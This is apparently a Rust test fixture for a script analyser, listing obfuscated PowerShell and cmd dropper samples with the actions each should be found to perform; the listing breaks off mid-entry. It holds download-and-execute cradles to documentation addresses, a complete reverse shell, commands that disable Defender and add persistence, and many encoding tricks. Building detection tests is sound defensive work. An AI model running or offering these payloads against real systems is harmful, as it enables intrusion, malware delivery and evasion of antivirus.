//! Scripts in the shapes that droppers have, and what they are told to do. Addresses are those for
//! documentation; nothing is there.

/// Name, script, acts.
pub(in super::super) const CASES: &[(&str, &str, &[&str])] = &[
    (
        "cradle",
        "IEX (New-Object Net.WebClient).DownloadString('http://192.0.2.7/a')",
        &["fetch http://192.0.2.7/a"],
    ),
    (
        "cradle in lower case without blanks",
        "iex(new-object net.webclient).downloadstring('http://192.0.2.7/a')",
        &["fetch http://192.0.2.7/a"],
    ),
    (
        "download and start",
        r#"$p = "$env:TEMP\a.exe"
(New-Object System.Net.WebClient).DownloadFile('http://192.0.2.7/a.exe', $p)
Start-Process $p"#,
        &[r"fetch http://192.0.2.7/a.exe to C:\Users\k.tanaka\AppData\Local\Temp\a.exe", r"run C:\Users\k.tanaka\AppData\Local\Temp\a.exe"],
    ),
    (
        "invoke-webrequest",
        r"iwr -Uri http://192.0.2.7/b.dll -OutFile $env:TEMP\b.dll -UseBasicParsing; rundll32 $env:TEMP\b.dll,Start",
        &[r"fetch http://192.0.2.7/b.dll to C:\Users\k.tanaka\AppData\Local\Temp\b.dll", r"run rundll32 C:\Users\k.tanaka\AppData\Local\Temp\b.dll,Start"],
    ),
    (
        "answer saved later",
        r#"$r = Invoke-WebRequest 'https://c.example/x'; [IO.File]::WriteAllBytes("$env:APPDATA\x.exe", $r.Content); & "$env:APPDATA\x.exe" "#,
        &[r"fetch https://c.example/x to C:\Users\k.tanaka\AppData\Roaming\x.exe", r"run C:\Users\k.tanaka\AppData\Roaming\x.exe"],
    ),
    (
        "base64 of an answer is the answer",
        r"$b=[Convert]::FromBase64String((New-Object Net.WebClient).DownloadString('http://192.0.2.7/a'));[IO.File]::WriteAllBytes('C:\Users\Public\q.exe',$b)",
        &[r"fetch http://192.0.2.7/a to C:\Users\Public\q.exe"],
    ),
    (
        "encoded command",
        "powershell -nop -w hidden -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAAuAFcAZQBiAEMAbABpAGUAbgB0ACkALgBEAG8AdwBuAGwAbwBhAGQAUwB0AHIAaQBuAGcAKAAnAGgAdAB0AHAAOgAvAC8AMQA5ADIALgAwAC4AMgAuADcALwBhACcAKQA=",
        &["run powershell -nop -w hidden -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAAuAFcAZQBiAEMAbABpAGUAbgB0ACkALgBEAG8AdwBuAGwAbwBhAGQAUwB0AHIAaQBuAGcAKAAnAGgAdAB0AHAAOgAvAC8AMQA5ADIALgAwAC4AMgAuADcALwBhACcAKQA=", "evaluate powershell", "fetch http://192.0.2.7/a"],
    ),
    (
        "encoded by start-process",
        r#"Start-Process powershell -ArgumentList "-e SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAAuAFcAZQBiAEMAbABpAGUAbgB0ACkALgBEAG8AdwBuAGwAbwBhAGQAUwB0AHIAaQBuAGcAKAAnAGgAdAB0AHAAOgAvAC8AMQA5ADIALgAwAC4AMgAuADcALwBhACcAKQA=" -WindowStyle Hidden"#,
        &["run powershell -e SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAAuAFcAZQBiAEMAbABpAGUAbgB0ACkALgBEAG8AdwBuAGwAbwBhAGQAUwB0AHIAaQBuAGcAKAAnAGgAdAB0AHAAOgAvAC8AMQA5ADIALgAwAC4AMgAuADcALwBhACcAKQA=", "evaluate powershell", "fetch http://192.0.2.7/a"],
    ),
    (
        "from base64",
        "iex ([Text.Encoding]::Unicode.GetString([Convert]::FromBase64String('SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAAuAFcAZQBiAEMAbABpAGUAbgB0ACkALgBEAG8AdwBuAGwAbwBhAGQAUwB0AHIAaQBuAGcAKAAnAGgAdAB0AHAAOgAvAC8AMQA5ADIALgAwAC4AMgAuADcALwBhACcAKQA=')))",
        &["evaluate powershell", "fetch http://192.0.2.7/a"],
    ),
    (
        "from base64, utf8",
        "$d=[System.Text.Encoding]::UTF8.GetString([System.Convert]::FromBase64String('SUVYIChOZXctT2JqZWN0IE5ldC5XZWJDbGllbnQpLkRvd25sb2FkU3RyaW5nKCdodHRwOi8vMTkyLjAuMi43L2EnKQ=='));Invoke-Expression $d",
        &["evaluate powershell", "fetch http://192.0.2.7/a"],
    ),
    (
        "concatenated",
        "&('i'+'ex') ('(New-Object Net.We'+'bClient).Downlo'+'adString(''http://192.0.2.7/a'')')",
        &["evaluate powershell", "fetch http://192.0.2.7/a"],
    ),
    (
        "format",
        r#"&("{1}{0}" -f 'x','ie') ("{2}{0}{1}" -f "Client).DownloadString('http","://192.0.2.7/a')",'(New-Object Net.Web')"#,
        &["evaluate powershell", "fetch http://192.0.2.7/a"],
    ),
    (
        "ticks",
        r#"i`E`x (n`ew-obj`ect n`et.web`client)."d`ownlOadstr`ing"('http://192.0.2.7/a')"#,
        &["fetch http://192.0.2.7/a"],
    ),
    (
        "reversed",
        "$s=')''a/7.2.0.291//:ptth''(gnirtSdaolnwoD.)tneilCbeW.teN tcejbO-weN( XEI';iex ($s[-1..-($s.Length)] -join '')",
        &["evaluate powershell", "fetch http://192.0.2.7/a"],
    ),
    (
        "reversed in place",
        "$c=')''a/7.2.0.291//:ptth''(gnirtSdaolnwoD.)tneilCbeW.teN tcejbO-weN( XEI'.ToCharArray();[Array]::Reverse($c);iex (-join $c)",
        &["evaluate powershell", "fetch http://192.0.2.7/a"],
    ),
    (
        "reversed by pattern",
        "( ')''a/7.2.0.291//:ptth''(gnirtSdaolnwoD.)tneilCbeW.teN tcejbO-weN( XEI' | % { [regex]::Matches($_,'.','RightToLeft') | % { $_.Value } }) -join '' | iex",
        &["evaluate powershell", "fetch http://192.0.2.7/a"],
    ),
    (
        "decimal",
        "iex ((73,69,88,32,40,78,101,119,45,79,98,106,101,99,116,32,78,101,116,46,87,101,98,67,108,105,101,110,116,41,46,68,111,119,110,108,111,97,100,83,116,114,105,110,103,40,39,104,116,116,112,58,47,47,49,57,50,46,48,46,50,46,55,47,97,39,41 | ForEach-Object { [char]$_ }) -join '')",
        &["evaluate powershell", "fetch http://192.0.2.7/a"],
    ),
    (
        "decimal cast",
        "([char[]](73,69,88,32,40,78,101,119,45,79,98,106,101,99,116,32,78,101,116,46,87,101,98,67,108,105,101,110,116,41,46,68,111,119,110,108,111,97,100,83,116,114,105,110,103,40,39,104,116,116,112,58,47,47,49,57,50,46,48,46,50,46,55,47,97,39,41) -join '') | & ($ShellId[1]+$ShellId[13]+'x')",
        &["evaluate powershell", "fetch http://192.0.2.7/a"],
    ),
    (
        "hexadecimal",
        "-join(('49 45 58 20 28 4e 65 77 2d 4f 62 6a 65 63 74 20 4e 65 74 2e 57 65 62 43 6c 69 65 6e 74 29 2e 44 6f 77 6e 6c 6f 61 64 53 74 72 69 6e 67 28 27 68 74 74 70 3a 2f 2f 31 39 32 2e 30 2e 32 2e 37 2f 61 27 29').Split(' ') | % { [char]([Convert]::ToInt16($_,16)) }) | . ($pshome[4]+$pshome[30]+'x')",
        &["evaluate powershell", "fetch http://192.0.2.7/a"],
    ),
    (
        "octal",
        "& ($env:comspec[4,15,25] -join '') (( '111-105-130-40-50-116-145-167-55-117-142-152-145-143-164-40-116-145-164-56-127-145-142-103-154-151-145-156-164-51-56-104-157-167-156-154-157-141-144-123-164-162-151-156-147-50-47-150-164-164-160-72-57-57-61-71-62-56-60-56-62-56-67-57-141-47-51' -split '-' | foreach { [char][Convert]::ToInt32(([string]$_),8) }) -join '')",
        &["evaluate powershell", "fetch http://192.0.2.7/a"],
    ),
    (
        "binary",
        "$x='1001001 1000101 1011000 100000 101000 1001110 1100101 1110111 101101 1001111 1100010 1101010 1100101 1100011 1110100 100000 1001110 1100101 1110100 101110 1010111 1100101 1100010 1000011 1101100 1101001 1100101 1101110 1110100 101001 101110 1000100 1101111 1110111 1101110 1101100 1101111 1100001 1100100 1010011 1110100 1110010 1101001 1101110 1100111 101000 100111 1101000 1110100 1110100 1110000 111010 101111 101111 110001 111001 110010 101110 110000 101110 110010 101110 110111 101111 1100001 100111 101001';((($x -split ' ') | %{[char][Convert]::ToInt32($_,2)}) -join '') | &((Get-Variable '*mdr*').Name[3,11,2]-join'')",
        &["evaluate powershell", "fetch http://192.0.2.7/a"],
    ),
    (
        "bxor",
        "&( $VerbosePreference.ToString()[1,3]+'x'-join'') (( 0x62,0x6E,0x73,0xB,0x3,0x65,0x4E,0x5C,0x6,0x64,0x49,0x41,0x4E,0x48,0x5F,0xB,0x65,0x4E,0x5F,0x5,0x7C,0x4E,0x49,0x68,0x47,0x42,0x4E,0x45,0x5F,0x2,0x5,0x6F,0x44,0x5C,0x45,0x47,0x44,0x4A,0x4F,0x78,0x5F,0x59,0x42,0x45,0x4C,0x3,0xC,0x43,0x5F,0x5F,0x5B,0x11,0x4,0x4,0x1A,0x12,0x19,0x5,0x1B,0x5,0x19,0x5,0x1C,0x4,0x4A,0xC,0x2 | %{ [char]($_ -bxor 0x2B) }) -join '')",
        &["evaluate powershell", "fetch http://192.0.2.7/a"],
    ),
    (
        "bxor of text in a loop",
        "$k=35;$d='amZ7AwttRlQObEFJRkBXA21GVw10RkFgT0pGTVcKDWdMVE1PTEJHcFdRSk1ECwRLV1dTGQwMEhoRDRMNEQ0UDEIECg==';$b=[Convert]::FromBase64String($d);for($i=0;$i -lt $b.Length;$i++){$b[$i]=$b[$i] -bxor $k};iex ([Text.Encoding]::ASCII.GetString($b))",
        &["evaluate powershell", "fetch http://192.0.2.7/a"],
    ),
    (
        "bxor by function",
        "function x($d,$k){$o='';for($i=0;$i -lt $d.Count;$i++){$o+=[char]($d[$i] -bxor [int][char]$k[$i % $k.Length])};return $o};iex (x @(34,32,33,75,77,55,14,18,84,36,7,19,14,6,13,75,43,28,31,75,46,14,7,58,7,12,28,5,17,80,69,33,22,28,11,21,4,4,29,56,17,11,2,11,30,67,66,17,31,17,9,81,74,86,90,92,75,69,85,87,89,75,78,68,4,94,66) 'key')",
        &["evaluate powershell", "fetch http://192.0.2.7/a"],
    ),
    (
        "replaced",
        "$a='IEX (New-Object Net.WebClient).Dow~loadStri~g(''h##p://192.0.2.7/a'')';$a=$a.Replace('~','n') -replace '##','tt';iex $a",
        &["evaluate powershell", "fetch http://192.0.2.7/a"],
    ),
    (
        "case-sensitive replace",
        "iex ('(New-Object Net.WebClient).DownloadString(QQQhttp://192.0.2.7/aQQQ)' -crEplAcE 'QQQ',[char]39)",
        &["evaluate powershell", "fetch http://192.0.2.7/a"],
    ),
    (
        "gzip",
        "$d=[Convert]::FromBase64String('H4sIAAAAAAACA/N0jVDQ8Est1/VPykpNLlHwSy3RC09Ncs7JTM0r0dRzyS/Py8lPTAkuKcrMS9dQzygpKbDS1ze0NNIz0DPSM9dPVNcEALxefFVDAAAA');$ms=New-Object IO.MemoryStream(,$d);$gz=New-Object IO.Compression.GzipStream($ms,[IO.Compression.CompressionMode]::Decompress);$sr=New-Object IO.StreamReader($gz);iex $sr.ReadToEnd()",
        &["evaluate powershell", "fetch http://192.0.2.7/a"],
    ),
    (
        "deflate in one",
        "iex $(New-Object IO.StreamReader ($(New-Object IO.Compression.DeflateStream ($(New-Object IO.MemoryStream (,$([Convert]::FromBase64String('83SNUNDwSy3X9U/KSk0uUfBLLdELT01yzslMzSvR1HPJL8/LyU9MCS4pysxL11DPKCkpsNLXN7Q00jPQM9Iz109U1wQA')))), [IO.Compression.CompressionMode]::Decompress)), [Text.Encoding]::ASCII)).ReadToEnd();",
        &["evaluate powershell", "fetch http://192.0.2.7/a"],
    ),
    (
        "deflate by obfuscator",
        " (nEW-objEct  SySTEM.iO.coMPReSSIon.DeFLATEsTReam([IO.MEmORySTReam][CONVERT]::FroMbASE64stRINg('83SNUNDwSy3X9U/KSk0uUfBLLdELT01yzslMzSvR1HPJL8/LyU9MCS4pysxL11DPKCkpsNLXN7Q00jPQM9Iz109U1wQA' ) ,[sYstEM.iO.COMpREssION.COmpRESSiONMODE]::dEcoMpRESS ) |%{ nEW-objEct Io.STreamreADer($_ , [TExt.eNCODiNG]::AscII )} |%{$_.ReADtOEnD()} ) | . ( $ENV:COmSPEC[4,24,25]-JoIN'')",
        &["evaluate powershell", "fetch http://192.0.2.7/a"],
    ),
    (
        "script block",
        r#"$sb=[ScriptBlock]::Create("IEX (New-Object Net.WebClient).DownloadString('http://192.0.2.7/a')"); & $sb"#,
        &["evaluate powershell", "fetch http://192.0.2.7/a"],
    ),
    (
        "script block invoked",
        "([scriptblock]::Create('IEX (New-Object Net.WebClient).DownloadString(''http://192.0.2.7/a'')')).Invoke()",
        &["evaluate powershell", "fetch http://192.0.2.7/a"],
    ),
    (
        "execution context",
        "$ExecutionContext.InvokeCommand.InvokeScript('IEX (New-Object Net.WebClient).DownloadString(''http://192.0.2.7/a'')')",
        &["evaluate powershell", "fetch http://192.0.2.7/a"],
    ),
    (
        "new script block",
        "&$ExecutionContext.InvokeCommand.NewScriptBlock('IEX (New-Object Net.WebClient).DownloadString(''http://192.0.2.7/a'')')",
        &["evaluate powershell", "fetch http://192.0.2.7/a"],
    ),
    (
        "command by wildcard",
        "$c = &(gcm *w-O*) Net.WebClient; &(gal i?x) $c.DownloadString('http://192.0.2.7/a')",
        &["fetch http://192.0.2.7/a"],
    ),
    (
        "alias of its own",
        r#"Set-Alias -Name zz -Value Invoke-Expression; zz "IEX (New-Object Net.WebClient).DownloadString('http://192.0.2.7/a')""#,
        &["evaluate powershell", "fetch http://192.0.2.7/a"],
    ),
    (
        "method by name",
        "$m='Down'+'loadString';$w=New-Object ('Net.We'+'bClient');iex $w.$m('http://192.0.2.7/a')",
        &["fetch http://192.0.2.7/a"],
    ),
    (
        "method invoked",
        "IEX (New-Object Net.WebClient).('DownloadString').Invoke('http://192.0.2.7/a')",
        &["fetch http://192.0.2.7/a"],
    ),
    (
        "type in a variable",
        "$t=[Type]('{0}{1}' -f 'Conv','ert'); iex ([Text.Encoding]::UTF8.GetString($t::FromBase64String('SUVYIChOZXctT2JqZWN0IE5ldC5XZWJDbGllbnQpLkRvd25sb2FkU3RyaW5nKCdodHRwOi8vMTkyLjAuMi43L2EnKQ==')))",
        &["evaluate powershell", "fetch http://192.0.2.7/a"],
    ),
    (
        "set-variable of a type",
        r#"sEt-VARiaBLe hY1 ( [TypE]('{1}{0}'-F'rt','COnve') ) ; iex ([TeXt.EncOding]::"u`TF8".('GetS'+'tring').Invoke( (gEt-VariaBle HY1).vaLue::('FromBa'+'se64String').Invoke('SUVYIChOZXctT2JqZWN0IE5ldC5XZWJDbGllbnQpLkRvd25sb2FkU3RyaW5nKCdodHRwOi8vMTkyLjAuMi43L2EnKQ==')))"#,
        &["evaluate powershell", "fetch http://192.0.2.7/a"],
    ),
    (
        "ofs",
        "$ofs='';iex ([string]('IEX (New-Object Net.','WebClient).DownloadString(''http://192.0.2.7/a'')'))",
        &["evaluate powershell", "fetch http://192.0.2.7/a"],
    ),
    (
        "here-string",
        "$code = @'
IEX (New-Object Net.WebClient).DownloadString('http://192.0.2.7/a')
'@
iex $code
",
        &["evaluate powershell", "fetch http://192.0.2.7/a"],
    ),
    (
        "expandable here-string",
        r#"$u = "192.0.2.7"
$code = @"
IEX (New-Object Net.WebClient).DownloadString('http://$u/$('a')')
"@
iex $code
"#,
        &["evaluate powershell", "fetch http://192.0.2.7/a"],
    ),
    (
        "list of sites, first that works",
        r"$u='http://a.example/1*http://b.example/2*http://c.example/3'.Split('*');$w=New-Object Net.WebClient;$p=$env:temp+'\284.exe';foreach($x in $u){try{$w.DownloadFile($x,$p);If((Get-Item $p).length -ge 80000){Invoke-Item $p;break;}}catch{}}",
        &[r"fetch http://a.example/1 to C:\Users\k.tanaka\AppData\Local\Temp\284.exe", r"run C:\Users\k.tanaka\AppData\Local\Temp\284.exe", r"fetch http://b.example/2 to C:\Users\k.tanaka\AppData\Local\Temp\284.exe", r"run C:\Users\k.tanaka\AppData\Local\Temp\284.exe", r"fetch http://c.example/3 to C:\Users\k.tanaka\AppData\Local\Temp\284.exe", r"run C:\Users\k.tanaka\AppData\Local\Temp\284.exe"],
    ),
    (
        "break after the first",
        r"foreach($x in 'http://a.example/','http://b.example/'){ try { iwr $x -OutFile C:\a.exe; Start-Process C:\a.exe; break } catch { continue } }",
        &[r"fetch http://a.example/ to C:\a.exe", r"run C:\a.exe", r"fetch http://b.example/ to C:\a.exe", r"run C:\a.exe"],
    ),
    (
        "fallback",
        "try { irm http://a.example/1 | iex } catch { irm http://b.example/2 | iex }",
        &["fetch http://a.example/1", "fetch http://b.example/2"],
    ),
    (
        "unknown condition",
        "if ((Get-Process).Count -lt 50) { exit } else { irm http://a.example/1 | iex }
irm http://b.example/2",
        &["fetch http://a.example/1", "fetch http://b.example/2"],
    ),
    (
        "known condition",
        "if ($env:USERNAME -eq 'sandbox') { irm http://a.example/1 } elseif (1 -gt 0) { irm http://b.example/2 }",
        &["fetch http://b.example/2"],
    ),
    (
        "beacon",
        "while($true){ $c=(New-Object Net.WebClient).DownloadString('http://192.0.2.7/a'); iex $c; Start-Sleep -Seconds 5 }
irm http://b.example/2",
        &["fetch http://192.0.2.7/a", "fetch http://b.example/2"],
    ),
    (
        "reverse shell",
        "$client = New-Object System.Net.Sockets.TCPClient('198.51.100.9',4444);$stream = $client.GetStream();[byte[]]$bytes = 0..65535|%{0};while(($i = $stream.Read($bytes, 0, $bytes.Length)) -ne 0){;$data = (New-Object -TypeName System.Text.ASCIIEncoding).GetString($bytes,0, $i);$sendback = (iex $data 2>&1 | Out-String );$sendback2  = $sendback + 'PS ' + (pwd).Path + '> ';$sendbyte = ([text.encoding]::ASCII).GetBytes($sendback2);$stream.Write($sendbyte,0,$sendbyte.Length);$stream.Flush()};$client.Close()",
        &["connect 198.51.100.9 4444"],
    ),
    (
        "written script",
        r#"Set-Content -Path "$env:TEMP\r.ps1" -Value "IEX (New-Object Net.WebClient).DownloadString('http://192.0.2.7/a')"; powershell -ExecutionPolicy Bypass -File "$env:TEMP\r.ps1" "#,
        &[r"write C:\Users\k.tanaka\AppData\Local\Temp\r.ps1 69", r"run powershell -ExecutionPolicy Bypass -File C:\Users\k.tanaka\AppData\Local\Temp\r.ps1", "fetch http://192.0.2.7/a"],
    ),
    (
        "persistence",
        r"New-ItemProperty -Path 'HKCU:\Software\Microsoft\Windows\CurrentVersion\Run' -Name 'Upd' -Value 'C:\a.exe' -Force | Out-Null
Set-MpPreference -DisableRealtimeMonitoring $true; Add-MpPreference -ExclusionPath 'C:\'
schtasks /create /tn Upd /tr C:\a.exe /sc minute /f",
        &[r"set HKCU:\Software\Microsoft\Windows\CurrentVersion\Run\Upd = C:\a.exe", "set Defender disablerealtimemonitoring = True", r"set Defender exclusionpath = C:\", r"set task Upd = C:\a.exe"],
    ),
    (
        "scheduled task",
        r#"$a = New-ScheduledTaskAction -Execute 'powershell.exe' -Argument '-w hidden -c "irm http://192.0.2.7/a | iex"'; Register-ScheduledTask -TaskName 'U' -Action $a"#,
        &[r#"set task U = powershell.exe -w hidden -c "irm http://192.0.2.7/a | iex""#, "evaluate powershell", "fetch http://192.0.2.7/a"],
    ),
    (
        "cmd",
        r#"cmd /c "certutil -urlcache -split -f http://192.0.2.7/a C:\a.exe & C:\a.exe""#,
        &[r"run cmd /c certutil -urlcache -split -f http://192.0.2.7/a C:\a.exe & C:\a.exe", "evaluate batch", r"fetch http://192.0.2.7/a to C:\a.exe", r"run C:\a.exe"],
    ),
    (
        "bits",
        r"Start-BitsTransfer -Source http://192.0.2.7/a -Destination $env:TEMP\a.exe; saps $env:TEMP\a.exe",
        &[r"fetch http://192.0.2.7/a to C:\Users\k.tanaka\AppData\Local\Temp\a.exe", r"run C:\Users\k.tanaka\AppData\Local\Temp\a.exe"],
    ),
    (
        "com",
        "$h=New-Object -ComObject Msxml2.XMLHTTP;$h.open('GET','http://192.0.2.7/a',$false);$h.send();iex $h.responseText;$s=New-Object -com WScript.Shell;$s.Run('calc.exe')",
        &["fetch http://192.0.2.7/a", "run calc.exe"],
    ),
    (
        "web request",
        "$r=[Net.WebRequest]::Create('http://192.0.2.7/a');$r.Method='GET';$sr=New-Object IO.StreamReader($r.GetResponse().GetResponseStream());iex $sr.ReadToEnd()",
        &["fetch http://192.0.2.7/a"],
    ),
    (
        "http client",
        "$c=[System.Net.Http.HttpClient]::new();iex ($c.GetStringAsync('http://192.0.2.7/a').GetAwaiter().GetResult())",
        &["fetch http://192.0.2.7/a"],
    ),
    (
        "wmi",
        r"Invoke-WmiMethod -Class Win32_Process -Name Create -ArgumentList 'C:\a.exe'; ([wmiclass]'Win32_Process').Create('b.exe')",
        &[r"run C:\a.exe", "run b.exe"],
    ),
    (
        "assembly",
        "$b=[Convert]::FromBase64String('TVqQAAMAAAA=');[Reflection.Assembly]::Load($b).EntryPoint.Invoke($null,$null)",
        &["write assembly in memory 8"],
    ),
    (
        "layers within layers",
        "iex ([Text.Encoding]::UTF8.GetString([Convert]::FromBase64String('aWV4IChbVGV4dC5FbmNvZGluZ106OlVURjguR2V0U3RyaW5nKFtDb252ZXJ0XTo6RnJvbUJhc2U2NFN0cmluZygnU1VWWUlDaE9aWGN0VDJKcVpXTjBJRTVsZEM1WFpXSkRiR2xsYm5RcExrUnZkMjVzYjJGa1UzUnlhVzVuS0Nkb2RIUndPaTh2TVRreUxqQXVNaTQzTDJFbktRPT0nKSkp')))",
        &["evaluate powershell", "evaluate powershell", "fetch http://192.0.2.7/a"],
    ),
    (
        "splatting",
        r"$p=@{Uri='http://192.0.2.7/a';OutFile='C:\a.exe'};Invoke-WebRequest @p",
        &[r"fetch http://192.0.2.7/a to C:\a.exe"],
    ),
    (
        "switch",
        "switch ('b') { 'a' { irm http://a.example/ } 'b' { irm http://b.example/ } default { irm http://c.example/ } }",
        &["fetch http://b.example/"],
    ),
    (
        "counted",
        r#"for ($i = 1; $i -le 3; $i++) { irm "http://192.0.2.$i/" }"#,
        &["fetch http://192.0.2.1/", "fetch http://192.0.2.2/", "fetch http://192.0.2.3/"],
    ),
    (
        "table of letters",
        "$m=@{0='h';1='t';2='p';3=':';4='/'};$u='';foreach($i in 0,1,1,2,3,4,4){$u+=$m[$i]};irm ($u+'192.0.2.7/a')",
        &["fetch http://192.0.2.7/a"],
    ),
    (
        "string builder",
        "$b=New-Object Text.StringBuilder;[void]$b.Append('http://');[void]$b.Append('192.0.2.7');$null=$b.Append('/a');irm $b.ToString()",
        &["fetch http://192.0.2.7/a"],
    ),
    (
        "pipeline of texts",
        r"'http://192.0.2.1/','http://192.0.2.2/' | ? { $_ -match '\.2/$' } | % { irm $_ }",
        &["fetch http://192.0.2.2/"],
    ),
    (
        "substring and insert",
        "$s='xxhttp//192.0.2.7/axx'.Substring(2,18).Insert(4,':').Trim('x');irm $s",
        &["fetch http://192.0.2.7/a"],
    ),
    (
        "environment variable of a process",
        "$env:zz='http://192.0.2.7/a';powershell -c 'irm $env:zz'",
        &[r#"run powershell -c "irm $env:zz""#, "evaluate powershell", "fetch http://192.0.2.7/a"],
    ),
    (
        "smart quotes and dashes",
        "iex (New\u{2013}Object Net.WebClient).DownloadString(\u{2018}http://192.0.2.7/a\u{2019})",
        &["fetch http://192.0.2.7/a"],
    ),
    (
        "variable drive",
        "Set-Item Variable:/zq 'http://192.0.2.7/a'; irm (Get-Item Variable:zq).Value; irm ${zq}",
        &["fetch http://192.0.2.7/a"],
    ),
    (
        "regex callback",
        "$d=[regex]::Replace('687474703a2f2f3139322e302e322e372f61','..',{param($m)[char][Convert]::ToInt32($m.Value,16)});irm $d",
        &["fetch http://192.0.2.7/a"],
    ),
    (
        "bitwise not and shift",
        "$u='';foreach($n in -209,-233,-233,-225,-117,-95,-95,-99,-115,-101,-93,-97,-93,-101,-93,-111,-95,-195){$u+=[char]((-bnot $n) -shr 1)};irm $u",
        &["fetch http://192.0.2.7/a"],
    ),
    (
        "powershell in powershell",
        "$p=[PowerShell]::Create();[void]$p.AddScript('irm http://192.0.2.7/a');$p.Invoke()",
        &["evaluate powershell", "fetch http://192.0.2.7/a"],
    ),
    (
        "dot net process",
        "[Diagnostics.Process]::Start('cmd.exe','/c start http://192.0.2.7/a')",
        &["run cmd.exe /c start http://192.0.2.7/a", "evaluate batch", "fetch http://192.0.2.7/a"],
    ),
    (
        "mshta",
        "mshta http://192.0.2.7/a.hta",
        &["run mshta http://192.0.2.7/a.hta", "fetch http://192.0.2.7/a.hta"],
    ),
    (
        "regsvr32",
        "regsvr32 /s /n /u /i:http://192.0.2.7/a.sct scrobj.dll",
        &["run regsvr32 /s /n /u /i:http://192.0.2.7/a.sct scrobj.dll", "fetch http://192.0.2.7/a.sct"],
    ),
    (
        "secure string",
        "iex ([Runtime.InteropServices.Marshal]::PtrToStringAuto([Runtime.InteropServices.Marshal]::SecureStringToBSTR($('76492d1116743f0423413b16050a5345MgB8AEEAQQBFAEMAQQB3AFEARgBCAGcAYwBJAEMAUQBvAEwARABBADAATwBEAHcAPQA9AHwAZgAyADAAOQBhAGYAZQBmADgANwAzADkAMgAxAGMAMABiADkAYwBhAGMAMABhADEAZABlAGQAZQAyAGIAZQAzADMAMwAzAGMAZAAxADcAYQAwADkAMAA3ADUAZQBhAGQAZgBiAGQAMgAwADUAZAA4ADkAMwA1ADQAZgA3ADgAOAAwADEAYwA0AGMAYQBhADMAMwBjAGMAZQA2ADAANAAyADIAZQBjADgANABhADQAMAA5AGYAZAAwADIAMgBmADgANAA5AGYAYwA4ADMAZgBlADUAOQBiADYAOABjADEANwAwADEAMgA5ADIAYQAyAGIANgAyAGMANgBkADMANAAzADYAYgAzADEAYwA2AGEAYQA1ADkAYgBjADEANQA5ADYAYwBkADIAOQAxAGEAMwAwAGMAMwA4AGEANwA4AGEAZgBhAGMAMQA1ADAAYgA3AGMANAA4ADAAYQBlADEAYwAwAGQAMQBkADYAOABhADQAOQBjADEAZgA1ADYAYgBkADQAYgAwADMAZQA1ADgANABlADkAZgAzADYAYQAxAGUAMgBlAGQANwBmADEAMABkAGUAYQA4ADAAYwBiADMAYQA4ADYAYwA0ADgAMQAxADEAYgBhADcAZQBiAGEAMABiADUAZQAyAGMANQA4AGMAZgBiAGYAMQA1AGIAZQBmAGUANAAzADIAYQBlADkAYgAzADAAMQAxADUAZQBmADAAZQBmADMANwBmADcAOQAyADMAOABjADUAMwA3ADAANwBlAGEA' | ConvertTo-SecureString -Key (1..32)))))",
        &["evaluate powershell", "fetch http://192.0.2.7/a"],
    ),
    (
        "aes",
        "$a=[Security.Cryptography.Aes]::Create();$a.Mode=[Security.Cryptography.CipherMode]::CBC;$a.Key=[Convert]::FromBase64String('AQIDBAUGBwgJCgsMDQ4PEBESExQVFhcYGRobHB0eHyA=');$a.IV=[Convert]::FromBase64String('AAECAwQFBgcICQoLDA0ODw==');$d=$a.CreateDecryptor();$b=[Convert]::FromBase64String('NHcRFYEvX8BeE3jeB0qQkf6yMcItopqAwF0WgYT2YAXNiW76L4+BtnxfQXXh292Zx4sxusyysPb8WLQIflz4vjnpyGUh1+g1P7WCRxAth+I=');iex ([Text.Encoding]::UTF8.GetString($d.TransformFinalBlock($b,0,$b.Length)))",
        &["evaluate powershell", "fetch http://192.0.2.7/a"],
    ),
    (
        "aes, ecb",
        "$a=New-Object Security.Cryptography.AesManaged;$a.Mode='ECB';$a.Key=[byte[]](1..16);$b=[Convert]::FromBase64String('qHu6siWEjmvhi4pM6D6QBWASd6ieOZP0WDp+ItjbQaWgrCxWzj86vOHqfNDzQlYuOmEn9qNiWsQs1Bna+nFbTt1YoxqOyYlfjs2KOJ+id2c=');iex ([Text.Encoding]::UTF8.GetString($a.CreateDecryptor().TransformFinalBlock($b,0,$b.Length)))",
        &["evaluate powershell", "fetch http://192.0.2.7/a"],
    ),
    (
        "gzip copied into memory",
        "$i=New-Object IO.MemoryStream(,[Convert]::FromBase64String('H4sIAAAAAAACA/N0jVDQ8Est1/VPykpNLlHwSy3RC09Ncs7JTM0r0dRzyS/Py8lPTAkuKcrMS9dQzygpKbDS1ze0NNIz0DPSM9dPVNcEALxefFVDAAAA'));$o=New-Object IO.MemoryStream;$g=New-Object IO.Compression.GZipStream $i,([IO.Compression.CompressionMode]::Decompress);$g.CopyTo($o);$g.Close();iex ([Text.Encoding]::UTF8.GetString($o.ToArray()))",
        &["evaluate powershell", "fetch http://192.0.2.7/a"],
    ),
    (
        "type accelerator in pieces",
        "&('New'+'-Object') ('N'+'et.W'+'ebClient') | % { $_.('Downl'+'oadString')('http://192.0.2.7/a') } | iex",
        &["fetch http://192.0.2.7/a"],
    ),
    (
        "invoked variable",
        r#"$x='iex';&$x "irm http://192.0.2.7/a""#,
        &["evaluate powershell", "fetch http://192.0.2.7/a"],
    ),
    (
        "nested functions and globals",
        r#"function Get-U { param([string]$h, [int]$n = 7) $global:u = "http://192.0.2.$n/$h" }; Get-U -h a; irm $u"#,
        &["fetch http://192.0.2.7/a"],
    ),
    (
        "filter and begin blocks",
        "filter f { $_ + 'a' }; 'http://192.0.2.7/' | f | % -Begin { $n = 0 } -Process { irm $_ }",
        &["fetch http://192.0.2.7/a"],
    ),
    (
        "every second letter",
        "$t='xhxtxtxpx:x/x/x1x9x2x.x0x.x2x.x7x/xa';$u='';for($i=1;$i -lt $t.Length;$i+=2){$u+=$t[$i]};irm $u",
        &["fetch http://192.0.2.7/a"],
    ),
    (
        "dictionary of replacements",
        "$s='h__p://192.0.2.7/a';@{'__'='tt'}.GetEnumerator() | % { $s=$s.Replace($_.Key,$_.Value) };irm $s",
        &["fetch http://192.0.2.7/a"],
    ),
    (
        "bytes flow one by one",
